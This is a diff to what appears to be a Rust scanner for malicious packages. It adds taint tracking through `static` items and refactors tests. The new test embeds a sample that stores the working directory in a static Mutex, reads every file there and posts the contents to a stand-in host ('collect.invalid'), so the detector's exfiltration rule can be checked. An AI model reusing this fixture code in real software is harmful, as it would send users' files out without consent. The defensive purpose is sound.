@@ -122,6 +122,9 @@ pub struct FileFlow {
     /// The modules written inline in the file (`mod legacy { … }`): `legacy::target()` is the
     /// crate's own function, as `retain::collect()` is for a module of its own file.
     pub modules: Vec<String>,
+    /// The file's `static` items (`static STATE: Mutex<Option<PathBuf>>`): what a function puts
+    /// into one (through a guard, `set`, `push`) every function that reads it gets.
+    pub statics: Vec<String>,
 }
 
 /// Where a value comes from.
@@ -675,6 +678,10 @@ fn flows_in_target(
         }
     }
     let field_types = StructFields::new(files);
+    let statics: std::collections::HashSet<&str> = files
+        .iter()
+        .flat_map(|file| file.statics.iter().map(String::as_str))
+        .collect();
     // The fields each function reads or writes, by the names its statements use for them
     // (`self.roots`, `Plan.roots`), with the name they are stored under: found once.
     let field_keys: HashMap<u32, HashMap<&str, String>> = by_scope
@@ -685,9 +692,16 @@ fn flows_in_target(
                 .iter()
                 .flat_map(|s| s.uses.iter().chain(&s.defs))
                 .chain(function.calls.iter().flat_map(|c| c.args.iter().flatten()))
-                .filter(|name| name.contains('.'));
+                .filter(|name| name.contains('.') || statics.contains(name.as_str()));
             let keys: HashMap<&str, String> = names
-                .filter_map(|name| Some((name.as_str(), field_types.field_key(function, name)?)))
+                .filter_map(|name| {
+                    let key = if statics.contains(name.as_str()) {
+                        format!("static {name}")
+                    } else {
+                        field_types.field_key(function, name)?
+                    };
+                    Some((name.as_str(), key))
+                })
                 .collect();
             (!keys.is_empty()).then_some((function.scope, keys))
         })
@@ -1181,8 +1195,8 @@ fn analyse_function(
         }
     }
     let taint_of = |locals: &HashMap<&str, u64>, name: &str| -> u64 {
-        // A field of `self` holds what the crate's functions write into it.
-        let written = if name.starts_with("self.") {
+        // A field of `self`, or a static, holds what the crate's functions write into it.
+        let written = if name.starts_with("self.") || !name.contains('.') {
             field_keys
                 .get(name)
                 .and_then(|key| fields.get(key))
@@ -2393,20 +2407,8 @@ pub fn go(dir: &std::path::Path) { let r = collect(dir); send(&r); }
                 }
             }"#;
         let lib = "pub mod keep;\npub mod sweep;\npub fn gate() -> bool { std::env::var(\"LANG\").is_ok() }\n";
-        let tarball = TarballBuilder::new()
-            .file(
-                "flows-0.1.0/Cargo.toml",
-                "[package]\nname = \"flows\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\
-                 description = \"x\"\nlicense = \"MIT\"\n",
-            )
-            .file("flows-0.1.0/src/lib.rs", lib)
-            .file("flows-0.1.0/src/keep.rs", keeper)
-            .file("flows-0.1.0/src/sweep.rs", sweeper)
-            .build();
-        let tarball = process_tarball("flows", "0.1.0", &tarball, &Limits::default()).unwrap();
-        // The walk of the home directory in `keep.rs` is its own, not the sweeper's.
-        let sweeps_home = |report: &crate::scan::Report| {
-            report.signals.iter().any(|s| {
+        let sweeps_home = |files: &[(&str, &str)]| {
+            report_of_files(files).signals.iter().any(|s| {
                 s.file == "src/sweep.rs"
                     && matches!(
                         s.kind,
@@ -2418,46 +2420,46 @@ pub fn go(dir: &std::path::Path) { let r = collect(dir); send(&r); }
                     )
             })
         };
-        let report = scan_package(&tarball);
-        assert!(!sweeps_home(&report), "{:?}", report.signals);
+        // The walk of the home directory in `keep.rs` is its own, not the sweeper's.
+        assert!(!sweeps_home(&[
+            ("lib.rs", lib),
+            ("keep.rs", keeper),
+            ("sweep.rs", sweeper)
+        ]));
         // Declared once, the struct's fields are the same wherever its methods are.
-        let once = sweeper.replace("pub struct Builder { dir: std::path::PathBuf }", "");
-        let tarball = TarballBuilder::new()
-            .file(
-                "flows-0.1.0/Cargo.toml",
-                "[package]\nname = \"flows\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\
-                 description = \"x\"\nlicense = \"MIT\"\n",
-            )
-            .file("flows-0.1.0/src/lib.rs", lib)
-            .file("flows-0.1.0/src/keep.rs", keeper)
-            .file(
-                "flows-0.1.0/src/sweep.rs",
-                format!("use crate::keep::Builder;\n{once}"),
-            )
-            .build();
-        let tarball = process_tarball("flows", "0.1.0", &tarball, &Limits::default()).unwrap();
-        let report = scan_package(&tarball);
-        assert!(sweeps_home(&report), "{:?}", report.signals);
+        let once = format!(
+            "use crate::keep::Builder;\n{}",
+            sweeper.replace("pub struct Builder { dir: std::path::PathBuf }", "")
+        );
+        assert!(sweeps_home(&[
+            ("lib.rs", lib),
+            ("keep.rs", keeper),
+            ("sweep.rs", &once)
+        ]));
         // A struct of a test module is no second declaration.
         let tested = format!(
             "{lib}\n#[cfg(test)]\nmod tests {{ pub struct Builder {{ dir: std::path::PathBuf }} }}"
         );
-        let tarball = TarballBuilder::new()
-            .file(
-                "flows-0.1.0/Cargo.toml",
-                "[package]\nname = \"flows\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\
-                 description = \"x\"\nlicense = \"MIT\"\n",
-            )
-            .file("flows-0.1.0/src/lib.rs", tested)
-            .file("flows-0.1.0/src/keep.rs", keeper)
-            .file(
-                "flows-0.1.0/src/sweep.rs",
-                format!("use crate::keep::Builder;\n{once}"),
-            )
-            .build();
+        assert!(sweeps_home(&[
+            ("lib.rs", &tested),
+            ("keep.rs", keeper),
+            ("sweep.rs", &once)
+        ]));
+    }
+
+    /// The report on a library whose `src/` holds `files` (name, text).
+    fn report_of_files(files: &[(&str, &str)]) -> crate::scan::Report {
+        let mut builder = TarballBuilder::new().file(
+            "flows-0.1.0/Cargo.toml",
+            "[package]\nname = \"flows\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\
+             description = \"x\"\nlicense = \"MIT\"\n",
+        );
+        for (name, text) in files {
+            builder = builder.file(&format!("flows-0.1.0/src/{name}"), text);
+        }
+        let tarball = builder.build();
         let tarball = process_tarball("flows", "0.1.0", &tarball, &Limits::default()).unwrap();
-        let report = scan_package(&tarball);
-        assert!(sweeps_home(&report), "{:?}", report.signals);
+        scan_package(&tarball)
     }
 
     /// A method called on an expression (`self.0.get()`) is not the crate's free function of
@@ -2486,6 +2488,56 @@ pub fn go(dir: &std::path::Path) { let r = collect(dir); send(&r); }
         expect(
             &findings(&source("get()")),
             exfiltration,
+            Some(Verdict::Hold),
+        );
+    }
+
+    /// What a function puts into a static (through a guard, `set` or `push`) is what another
+    /// function reads from it.
+    #[test]
+    fn a_directory_kept_in_a_static_is_what_another_function_walks() {
+        let source = |kept: &str| {
+            format!(
+                r#"
+                use std::path::PathBuf;
+                use std::sync::Mutex;
+                const COLLECT: &str = "https://collect.invalid/up";
+                pub fn remember(dir: PathBuf) {{
+                    let root = {kept};
+                    if let Ok(mut slot) = ROOT.lock() {{
+                        slot.get_or_insert_with(|| root.clone());
+                    }}
+                    let _ = dir;
+                }}
+                pub fn upload() {{
+                    let root = ROOT.lock().ok().and_then(|g| g.clone()).unwrap_or_default();
+                    let mut body = Vec::new();
+                    for entry in std::fs::read_dir(&root).unwrap().flatten() {{
+                        body.extend(std::fs::read(entry.path()).unwrap_or_default());
+                    }}
+                    let _ = ureq::post(COLLECT).send_bytes(&body);
+                }}
+                static ROOT: Mutex<Option<PathBuf>> = Mutex::new(None);"#
+            )
+        };
+        let walks_project = |kept: &str| {
+            report(&source(kept)).signals.iter().any(|s| {
+                matches!(
+                    s.kind,
+                    SignalKind::Flow {
+                        source: Source::WorkingDirectory,
+                        sink: Sink::Walk,
+                        ..
+                    }
+                )
+            })
+        };
+        assert!(walks_project("std::env::current_dir().unwrap()"));
+        // The directory the caller names, kept the same way, is not the project's.
+        assert!(!walks_project("dir.clone()"));
+        expect(
+            &findings(&source("std::env::current_dir().unwrap()")),
+            super::super::rules::EXFILTRATION,
             Some(Verdict::Hold),
         );
     }
